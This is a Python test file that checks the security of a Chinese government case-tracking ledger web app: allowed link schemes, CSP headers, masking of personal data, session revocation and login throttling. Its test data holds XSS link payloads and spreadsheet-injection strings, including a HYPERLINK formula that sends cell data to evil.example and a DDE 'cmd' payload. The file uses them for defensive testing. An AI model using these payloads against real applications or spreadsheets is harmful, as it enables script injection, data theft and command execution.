"""Security of the ledger as an outside tester probes it (issue 13), on both databases: links of any
scheme but http(s) refused on input and dropped on output, the Content-Security-Policy, masking of
every public output per kind of personal data, formulas in the Excel export, revocable sessions,
sign-in throttling per account and client, and the smaller holes (500 on a bad link, echoed input,
weak passwords, LIKE wildcards, bidi/NUL characters, offline API docs, Chinese error pages, the
Secure cookie)."""

from __future__ import annotations

import io
import re
import typing
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from pydantic import BaseModel
from sqlalchemy import text

from ledger import schemas
from ledger.schemas import CaseAction, CommitmentAction, NewCase, NewCommitment
from ledger.states import SYSTEM
from ledger.urls import LinkMarker
from tests.ledger.conftest import BASE, PASSWORD, Client, Env
from web import SESSION_COOKIE, create_app

TEMPLATES = Path(__file__).resolve().parents[2] / "ledger" / "web" / "templates"
BAD_LINKS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https:evil.example",
    "ftp://files.example/x",
    "http://",
]


def client_at(env: Env, address: str, base: str = BASE) -> Client:
    """A client whose requests come from ``address`` (another machine), optionally over https."""
    c = Client(env.portal, env.app)
    c._c = httpx.AsyncClient(transport=httpx.ASGITransport(app=env.app, client=(address, 50000)), base_url=base)
    return c


# -- 1. links: http(s) only, on every URL field --------------------------------------------------------
def _has_link_marker(annotation: Any, metadata: list[Any]) -> bool:
    if any(isinstance(m, LinkMarker) for m in metadata):
        return True
    if typing.get_origin(annotation) is typing.Annotated:
        return any(isinstance(m, LinkMarker) for m in typing.get_args(annotation)[1:])
    return any(_has_link_marker(a, []) for a in typing.get_args(annotation))


INPUT_MODELS = sorted(
    (m for m in vars(schemas).values() if isinstance(m, type) and issubclass(m, schemas._In) and m is not schemas._In),
    key=lambda m: m.__name__,
)
URL_FIELDS = [
    (model, name)
    for model in INPUT_MODELS
    for name, info in model.model_fields.items()
    if _has_link_marker(info.annotation, list(info.metadata))
]


def test_every_field_that_holds_a_link_is_typed_as_one() -> None:
    """A field named like a link (…url…, …link…) must use ledger.urls' types, so the tests below cover it."""
    named = {(m.__name__, n) for m in INPUT_MODELS for n in m.model_fields if re.search(r"url|link|href", n, re.I)}
    typed = {(m.__name__, n) for m, n in URL_FIELDS}
    assert named <= typed, f"URL fields not typed HttpLink/OptionalLink: {named - typed}"
    assert typed >= {("NewCase", "post_urls"), ("CommitmentAction", "evidence_links"), ("CommitmentAction", "disclosure_url")}


# How to submit each URL field through the API: (who, path, the rest of a valid body).
def _api_submission(env: Env, model: type[BaseModel], field: str) -> tuple[str, str, dict[str, Any]]:
    if model is NewCase:
        return "monitor", "/api/v1/cases", {"title": "原帖链接检查"}
    if model is CommitmentAction:
        who, state, body = {
            "evidence_links": ("unit", "fulfilling", {"action": "fulfil", "fulfilment": "已整改"}),
            "disclosure_url": ("monitor", "fulfilled", {"action": "disclose", "disclosure_channel": "县政府网站"}),
        }[field]
        m = env.case(state).commitments[0]
        return who, f"/api/v1/commitments/{m.id}/actions", {**body, "version": m.version}
    raise AssertionError(f"add how to submit {model.__name__}.{field} to this test")


@pytest.mark.parametrize(("model", "field"), URL_FIELDS, ids=[f"{m.__name__}.{f}" for m, f in URL_FIELDS])
def test_url_fields_refuse_other_schemes_through_the_api(env: Env, model: type[BaseModel], field: str) -> None:
    is_list = typing.get_origin(model.model_fields[field].annotation) is list
    who, path, body = _api_submission(env, model, field)
    api = env.client(who, token=True)
    for bad in BAD_LINKS:
        r = api.post(path, json={**body, field: [bad] if is_list else bad})
        assert r.status_code == 422, (bad, r.text)
        detail = r.json()["detail"]
        assert detail[0]["loc"][:2] == ["body", field] and "只允许 http:// 或 https://" in detail[0]["msg"], detail
    good = "https://www.pengze.gov.cn/art/2026/12/1/art_1.html"
    r = api.post(path, json={**body, field: [good] if is_list else good})
    assert r.status_code in (200, 201), r.text
    stored = r.json()[field]
    assert stored == ([good] if is_list else good)


def test_url_fields_refuse_other_schemes_through_the_forms(env: Env) -> None:
    mon = env.client("monitor")
    r = mon.form("/cases/new", {"title": "表单链接检查", "post_urls": "https://ok.example/1 javascript:alert(1)"})
    assert r.status_code == 422 and "原帖链接" in r.text and "只允许 http:// 或 https://" in r.text
    assert env.svc.list_cases(SYSTEM).total == 0
    m = env.case("fulfilled").commitments[0]
    r = mon.form(
        f"/commitments/{m.id}/act",
        {"action": "disclose", "version": m.version, "disclosure_channel": "网站", "disclosure_url": "javascript:alert(1)"},
    )
    assert r.status_code == 422 and "公开链接" in r.text
    m2 = env.case("fulfilling").commitments[0]
    unit = env.client("unit")
    r = unit.form(
        f"/commitments/{m2.id}/act",
        {"action": "fulfil", "version": m2.version, "fulfilment": "已整改", "evidence_links": "data:text/html,x"},
    )
    assert r.status_code == 422 and "佐证材料链接" in r.text


def test_links_stored_before_the_check_are_dropped_on_output(env: Env) -> None:
    """Rows written by an older version (or by hand) never render a script link."""
    case = env.case("disclosed", title="旧数据中的链接")
    with env.db.engine.begin() as conn:
        conn.execute(
            text("UPDATE ledger_commitments SET disclosure_url = 'javascript:alert(1)', evidence_links = :ev"),
            {"ev": '["javascript:alert(2)", "https://ok.example/e"]'},
        )
        conn.execute(text("UPDATE ledger_cases SET post_urls = :p"), {"p": '["javascript:alert(3)", "https://ok.example/p"]'})
    outputs = [
        env.client("monitor").get(f"/cases/{case.id}").text,
        env.client("admin", token=True).get(f"/api/v1/cases/{case.id}").text,
        env.client(None).get("/public").text,
        env.client(None).get("/public/feed.xml").text,
        env.client(None).get("/public/feed.json").text,
    ]
    for out in outputs:
        assert "javascript:" not in out.lower()
    assert "https://ok.example/e" in outputs[0] and "https://ok.example/p" in outputs[1]


def test_every_page_sends_a_csp_without_inline_script(env: Env) -> None:
    case = env.case("disclosed")
    pages = {
        None: ["/public", "/login", "/api/docs", "/no-such-page", "/cases"],
        "admin": ["/cases", f"/cases/{case.id}", "/cases/new", "/admin", "/events", "/alerts", "/cases/999999"],
        "unit": ["/cases", f"/cases/{case.id}"],
    }
    for role, paths in pages.items():
        c = env.client(role)
        for path in paths:
            r = c.get(path)
            csp = r.headers["content-security-policy"]
            script_src = re.search(r"script-src ([^;]*)", csp)
            assert script_src and script_src.group(1).strip() == "'self'", csp
            assert "object-src 'none'" in csp and "frame-ancestors 'none'" in csp
            if r.headers.get("content-type", "").startswith("text/html"):
                assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", r.text, re.I), (path, "inline script")
                assert not re.search(r"\son[a-z]+\s*=", r.text, re.I), (path, "inline event handler")
                assert "javascript:" not in r.text.lower(), path


def test_templates_hold_no_inline_script() -> None:
    for path in TEMPLATES.glob("*.html"):
        source = path.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", source, re.I), path.name
        assert not re.search(r"\son[a-z]+\s*=", source, re.I), path.name
        assert "javascript:" not in source.lower(), path.name


def test_api_docs_work_offline_from_local_assets(env: Env) -> None:
    anon = env.client(None)
    page = anon.get("/api/docs").text
    srcs = re.findall(r'(?:src|href)="([^"]+)"', page)
    assert srcs and all(s.startswith("/") for s in srcs), srcs  # nothing from a CDN
    for src in srcs:
        r = anon.get(src)
        assert r.status_code == 200 and len(r.content) > 100, src
    bundle = anon.get("/api/docs/assets/swagger-ui-bundle.js")
    assert "javascript" in bundle.headers["content-type"] and b"SwaggerUIBundle" in bundle.content


# -- 2. masking: every public output, every kind of personal data -----------------------------------------
MASK_CASES = [
    # (kind, text put in the public fields, what must not appear, what appears instead)
    ("name of the petitioner", "诉求人：王小明已领到工资", "王小明", "王**"),
    ("third party's name", "已约谈包工头陈志强，其邻居李建国作证", "陈志强", "陈**"),
    ("mobile", "回访电话 139 2345 6789 已接通", "139 2345 6789", "139****6789"),
    ("18-digit ID", "身份证号 36042819880617231X 已核验", "36042819880617231X", "360428************"),
    ("15-digit ID", "旧身份证 360428880617231 已核验", "360428880617231", "360428*********"),
    ("bank card", "工资已打入 6217 0028 7001 2345 678 账户", "6217 0028 7001 2345 678", "6217 **** **** 5678"),
    ("address", "现场核查彭泽县龙城镇滨江路88号阳光小区3栋2单元501室", "3栋2单元501室", "**栋**单元**室"),
    ("street number", "现场核查滨江路88号门面", "滨江路88号", "滨江路**号"),
    ("licence plate", "涉事渣土车赣G·D1234已查扣", "赣G·D1234", "赣G·****4"),
    ("new-energy plate", "涉事车辆赣GD12345已查扣", "赣GD12345", "赣G·*****5"),
    ("landline", "回访座机 0792-6821234 无人接听", "6821234", "0792-****34"),
    ("e-mail", "回复已发至 wangxm1988@163.com 邮箱", "wangxm1988@163.com", "w***@163.com"),
    ("village group", "到太泊湖村3组实地查看", "村3组", "村**组"),
]


@pytest.mark.parametrize(("kind", "raw", "secret", "shown"), MASK_CASES, ids=[k for k, *_ in MASK_CASES])
def test_public_outputs_mask_each_kind_of_personal_data(env: Env, kind: str, raw: str, secret: str, shown: str) -> None:
    a = env.world.actors
    case = env.case("in_progress", title=f"群众反映：{raw}", petitioner="王小明", petitioner_phone="13923456789")
    env.svc.add_commitment(a["unit"], case.id, NewCommitment(version=case.version, content=f"承诺：{raw}", due_workdays=10))
    case = env.svc.get_case(SYSTEM, case.id)
    case = env.svc.act(a["unit"], case.id, CaseAction(action="respond", version=case.version, response="已回复"))
    case = env.svc.act(a["unit"], case.id, CaseAction(action="track", version=case.version))
    m = case.commitments[0]
    m = env.svc.act_on_commitment(a["unit"], m.id, CommitmentAction(action="fulfil", version=m.version, fulfilment=f"落实：{raw}"))
    env.svc.act_on_commitment(
        a["monitor"], m.id, CommitmentAction(action="disclose", version=m.version, disclosure_channel=f"问政平台回复（{raw}）"[:100])
    )
    anon = env.client(None)
    outputs = {"page": anon.get("/public").text, "rss": anon.get("/public/feed.xml").text, "json": anon.get("/public/feed.json").text}
    for name, out in outputs.items():
        assert secret not in out, (kind, name)
        # title, commitment, fulfilment; the page and the JSON feed show the channel too (RSS does not)
        assert out.count(shown) >= (3 if name == "rss" else 4), (kind, name, shown)
        assert "13923456789" not in out


def test_every_text_field_of_a_public_item_is_masked() -> None:
    """The public item has one masking step over all its text fields: a field added later is masked too."""
    from dataclasses import fields
    from datetime import datetime

    from ledger.feeds import NOT_MASKED, PublicItem, masked

    raw = "联系人：王小明 13923456789"
    values: dict[str, Any] = {f.name: raw if f.type in ("str", str) else datetime(2026, 12, 1) for f in fields(PublicItem)}
    values["disclosure_url"] = "https://www.pengze.gov.cn/1"
    out = masked(PublicItem(**values))
    for f in fields(PublicItem):
        if f.name not in NOT_MASKED and isinstance(getattr(out, f.name), str):
            assert getattr(out, f.name) == "联系人：王** 139****6789", f.name
    assert {"id", "case_number", "disclosure_url"} == NOT_MASKED


# -- 3. spreadsheet formulas ------------------------------------------------------------------------------
def test_excel_export_writes_formula_like_values_as_text(env: Env) -> None:
    evil = {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "summary": "+cmd|' /C calc'!A0",
        "region": "-2+3",
        "source_ref": "@SUM(1+1)",
    }
    case = env.case("in_progress", **evil)  # type: ignore[arg-type]
    env.svc.add_commitment(env.world.actors["unit"], case.id, NewCommitment(version=case.version, content="=1+1", due_workdays=3))
    body = env.client("monitor").get("/export.xlsx").content
    wb = openpyxl.load_workbook(io.BytesIO(body))
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.add(cell.value)
    assert {evil["title"], evil["summary"], evil["source_ref"], "=1+1"} <= values


# -- 4. sessions end server-side --------------------------------------------------------------------------
def _stolen_copy(env: Env, c: Client) -> Client:
    copy = Client(env.portal, env.app)
    copy._c.cookies = httpx.Cookies(c._c.cookies)
    return copy


def _fresh_login(env: Env, username: str, password: str = PASSWORD) -> Client:
    c = Client(env.portal, env.app)
    assert c.login(username, password).status_code == 303
    return c


def test_logout_ends_the_session_everywhere(env: Env) -> None:
    c = _fresh_login(env, "lingdao")
    copy = _stolen_copy(env, c)
    assert copy.get("/cases").status_code == 200
    c.form("/logout")
    r = copy.get("/cases")
    assert r.status_code == 303 and r.headers["location"] == "/login?next=/cases"
    assert copy.get("/api/v1/me").status_code == 401


def test_password_reset_by_an_administrator_ends_the_sessions(env: Env) -> None:
    user = env.svc.create_user(SYSTEM, f"reset{env.backend}", "lamp-harbour-91", "leader")
    c = _fresh_login(env, user.username, "lamp-harbour-91")
    assert c.get("/cases").status_code == 200
    assert env.client("admin").form(f"/admin/users/{user.id}/password", {"password": "another-lamp-92"}).status_code == 303
    assert c.get("/cases").status_code == 303
    assert _fresh_login(env, user.username, "another-lamp-92").get("/cases").status_code == 200


def test_changing_ones_own_password_ends_the_sessions(env: Env) -> None:
    user = env.svc.create_user(SYSTEM, f"self{env.backend}", "lamp-harbour-91", "leader")
    c = _fresh_login(env, user.username, "lamp-harbour-91")
    actor = env.svc.actor(user.id)
    assert actor is not None
    env.svc.set_password(actor, user.id, "yet-another-lamp-93")
    assert c.get("/cases").status_code == 303


def test_deactivation_ends_the_sessions(env: Env) -> None:
    user = env.svc.create_user(SYSTEM, f"off{env.backend}", "lamp-harbour-91", "leader")
    c = _fresh_login(env, user.username, "lamp-harbour-91")
    assert env.client("admin").form(f"/admin/users/{user.id}/active", {"active": "0"}).status_code == 303
    assert c.get("/cases").status_code == 303
    env.svc.set_user_active(SYSTEM, user.id, True)
    assert c.get("/cases").status_code == 303  # reactivation does not revive the old session


def test_a_session_cookie_carries_no_user_id(env: Env) -> None:
    """Forging the signed cookie's content is not enough: only a live session row signs anyone in."""
    c = _fresh_login(env, "lingdao")
    import base64
    import json

    payload = (c._c.cookies.get(SESSION_COOKIE) or "").split(".")[0]
    data = json.loads(base64.b64decode(payload + "=" * (-len(payload) % 4)))
    assert set(data) == {"sid", "csrf"} and "uid" not in data


# -- 5. throttling by account and client, in the database ----------------------------------------------------
def test_a_stranger_cannot_lock_a_unit_out(env: Env) -> None:
    stranger = client_at(env, "203.0.113.7")
    for _ in range(env.svc.config.login_max_failures):
        assert stranger.login("sthj", "wrong-password").status_code == 401
    assert stranger.login("sthj").status_code == 429  # the stranger's client is throttled for this account
    assert client_at(env, "10.1.2.3").login("sthj").status_code == 303  # the unit, from its own machine, is not


def test_one_client_trying_many_accounts_is_throttled(env: Env) -> None:
    sprayer = client_at(env, "198.51.100.9")
    for i in range(env.svc.config.login_max_failures * 4):
        assert sprayer.login(f"user{i % 7}", "Summer2026!").status_code == 401
    assert sprayer.login("jiance").status_code == 429
    assert client_at(env, "198.51.100.10").login("jiance").status_code == 303


def test_throttling_is_shared_by_several_web_workers(env: Env) -> None:
    """A second app on the same database (another uvicorn worker) sees the first one's failures."""
    worker2 = create_app(env.svc, secret_key="test-secret")
    c1 = client_at(env, "192.0.2.44")
    c2 = Client(env.portal, worker2)
    c2._c = httpx.AsyncClient(transport=httpx.ASGITransport(app=worker2, client=("192.0.2.44", 50001)), base_url=BASE)
    for _ in range(env.svc.config.login_max_failures):
        assert c1.login("lingdao", "wrong-password").status_code == 401
    assert c2.login("lingdao").status_code == 429


# -- 6. the smaller ones ------------------------------------------------------------------------------------
def test_a_bad_evidence_link_is_a_422_with_the_field_not_a_500(env: Env) -> None:
    m = env.case("fulfilling").commitments[0]
    r = env.client("unit", token=True).post(
        f"/api/v1/commitments/{m.id}/actions",
        json={"action": "fulfil", "version": m.version, "fulfilment": "x", "evidence_links": ["ftp://x/y"]},
    )
    assert r.status_code == 422
    assert r.json()["detail"][0]["field"] == "佐证材料链接（第 1 项）"


def test_errors_do_not_echo_large_input(env: Env) -> None:
    api = env.client("monitor", token=True)
    big = "拖" * 300_000  # 900 kB of UTF-8, under the body limit
    payload = ('{"title": "' + big + '"}').encode()
    r = api.post("/api/v1/cases", content=payload, headers={"content-type": "application/json"})
    assert r.status_code == 422 and len(r.content) < 2000 and "最多 300 个字符" in r.text
    r = api.post(f"/api/v1/cases/{env.case('in_progress').id}/actions", json={"action": "edit", "version": 1, "fields": {"x" * 100_000: 1}})
    assert r.status_code in (409, 422) and len(r.content) < 2000
    r = env.client("monitor").form("/cases/new", {"title": big[:100_000]})  # percent-encoded: 900 kB
    assert r.status_code == 422 and len(r.content) < 20000 and "标题：最多 300 个字符" in r.text
    # Past the limit for requests that are not uploads: refused before it is read, with a short answer.
    r = api.post("/api/v1/cases", content=b'{"title": "' + b"x" * (3 * 1024 * 1024) + b'"}', headers={"content-type": "application/json"})
    assert r.status_code == 413 and len(r.content) < 200 and "content-security-policy" in r.headers


@pytest.mark.parametrize("weak", ["        ", "12345678", "password1", "woaini1314", "aaaaaaaa1", "sthj2026!", "Aa123456"])
def test_weak_passwords_are_refused(env: Env, weak: str) -> None:
    r = env.client("admin").form(
        "/admin/users", {"username": "sthj2", "password": weak, "role": "unit", "unit_id": str(env.world.units["县生态环境局"])}
    )
    assert r.status_code == 422 and "密码太弱" in r.text, weak
    assert "sthj2" not in {u.username for u in env.svc.list_users(SYSTEM)}


def test_like_wildcards_in_the_case_search_match_themselves(env: Env) -> None:
    env.case("pending", title="满意率100%的承诺")
    env.case("pending", title="路灯_编号A12不亮")
    env.case("pending", title="河水发黑")
    api = env.client("monitor", token=True)
    for q, titles in (("%", ["满意率100%的承诺"]), ("_", ["路灯_编号A12不亮"]), ("100%", ["满意率100%的承诺"]), ("\\", [])):
        r = api.get("/api/v1/cases", params={"q": q})
        assert [c["title"] for c in r.json()["items"]] == titles, q


def test_bidi_overrides_and_nul_are_stripped_from_names_and_text(env: Env) -> None:
    api = env.client("monitor", token=True)
    r = api.post("/api/v1/cases", json={"title": "王小明\u202e反映\x00问题", "petitioner": "\u202e明小王\u2066", "summary": "a\x00b"})
    assert r.status_code == 201
    body = r.json()
    assert (body["title"], body["petitioner"], body["summary"]) == ("王小明反映问题", "明小王", "ab")
    user = env.svc.create_user(SYSTEM, f"bidi{env.backend}", "lamp-harbour-91", "leader", display_name="李\u202e四")
    assert user.display_name == "李四"
    unit = env.svc.create_unit(SYSTEM, f"县\u202e某局{env.backend}\x00")
    assert unit.name == f"县某局{env.backend}"


def test_html_errors_are_chinese_pages(env: Env) -> None:
    anon = env.client(None)
    r = anon.get("/no-such-page")
    assert r.status_code == 404 and r.headers["content-type"].startswith("text/html")
    assert 'role="alert"' in r.text and "页面不存在" in r.text
    r = anon.get("/api/v1/no-such-thing")
    assert r.status_code == 404 and r.json() == {"detail": "页面不存在，请检查地址", "error": "HTTP404"}
    mon = env.client("monitor")
    r = mon.form("/cases/new", {"title": "时限", "time_limit_days": "999"})
    assert r.status_code == 422 and "办理时限：不能大于 120" in r.text
    r = mon.get("/cases/abc")
    assert r.status_code == 422 and 'role="alert"' in r.text and "Input should be" not in r.text
    r = env.client("admin", token=True).post("/api/v1/cases", json={"title": "x", "risk_level": "很高"})
    assert r.status_code == 422 and r.json()["detail"][0]["msg"].startswith("风险等级：须为以下之一")


def _set_cookie(r: httpx.Response) -> str:
    return "\n".join(v for k, v in r.headers.multi_items() if k.lower() == "set-cookie")


def test_session_cookie_is_secure_on_https_by_default(env: Env) -> None:
    https = client_at(env, "127.0.0.9", base="https://ledger.test")
    assert "secure" in _set_cookie(https.get("/login")).lower()
    http = client_at(env, "127.0.0.9")
    cookie = _set_cookie(http.get("/login")).lower()
    assert cookie and "secure" not in cookie
    env.svc.config = env.config.model_copy(update={"cookie_secure": False})  # type: ignore[attr-defined]
    app = create_app(env.svc, secret_key="test-secret")
    c = Client(env.portal, app)
    c._c = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="https://ledger.test")
    assert "secure" not in _set_cookie(c.get("/login")).lower()
    env.svc.config = env.config.model_copy(update={"cookie_secure": True})  # type: ignore[attr-defined]
    app = create_app(env.svc, secret_key="test-secret")
    c._c = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=BASE)
    assert "secure" in _set_cookie(c.get("/login")).lower()


def test_behind_a_proxy_the_forwarded_scheme_makes_the_cookie_secure(env: Env, live_server: str) -> None:
    with httpx.Client(base_url=live_server) as c:
        assert "secure" in _set_cookie(c.get("/login", headers={"X-Forwarded-Proto": "https"})).lower()
    with httpx.Client(base_url=live_server) as c:
        assert "secure" not in _set_cookie(c.get("/login")).lower()


def test_cli_password_reset_ends_sessions_and_refuses_weak_ones(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from click.testing import CliRunner

    from app.cli import main
    from ledger.config import LedgerConfig
    from ledger.db import Database
    from ledger.service import LedgerService

    url = f"sqlite:///{tmp_path}/ledger.db"
    monkeypatch.setenv("YUQING_DATABASE__URL", url)
    run = CliRunner().invoke
    assert run(main, ["ledger", "migrate"]).exit_code == 0
    assert run(main, ["ledger", "users", "add", "lingdao", "--role", "leader", "--password", "lamp-harbour-91"]).exit_code == 0
    db = Database(url)
    svc = LedgerService(db, LedgerConfig())
    user = next(u for u in svc.list_users(SYSTEM) if u.username == "lingdao")
    token = svc.start_session(user.id)
    assert svc.actor_for_session(token) is not None
    r = run(main, ["ledger", "users", "passwd", "lingdao", "--password", "12345678"])
    assert r.exit_code != 0 and "密码太弱" in r.output
    assert svc.actor_for_session(token) is not None
    r = run(main, ["ledger", "users", "passwd", "lingdao", "--password", "another-lamp-92"])
    assert r.exit_code == 0 and "已重置 lingdao 的密码" in r.output
    assert svc.actor_for_session(token) is None
    assert svc.authenticate("lingdao", "another-lamp-92") is not None
    db.close()


@pytest.mark.parametrize(
    ("raw", "masked_text"),
    [
        # people: the petitioner's words name others too
        ("包工头黄俊来处理，但黄俊一直未到场", "包工头黄**处理，但黄*一直未到场"),
        ("村民周红梅称其丈夫欧阳振华被拖欠工资", "村民周**称其丈夫欧***被拖欠工资"),
        ("来电人：张三丰", "来电人：张**"),
        # not people: officials by their title, places, organisations, common words
        ("胡书记您好，李局长已批示", "胡书记您好，李局长已批示"),
        ("雷峰大道与高云路路口，梅岭公园北侧", "雷峰大道与高云路路口，梅岭公园北侧"),
        ("市民周末休息时噪音扰民，业主单方面解约", "市民周末休息时噪音扰民，业主单方面解约"),
        ("具体陈述如下，已取得许可证", "具体陈述如下，已取得许可证"),
        ("由县政府办牵头，县生态环境局、县人力资源和社会保障局配合", "由县政府办牵头，县生态环境局、县人力资源和社会保障局配合"),
    ],
)
def test_masking_tells_people_from_places_titles_and_words(raw: str, masked_text: str) -> None:
    from ledger.masking import mask

    assert mask(raw) == masked_text
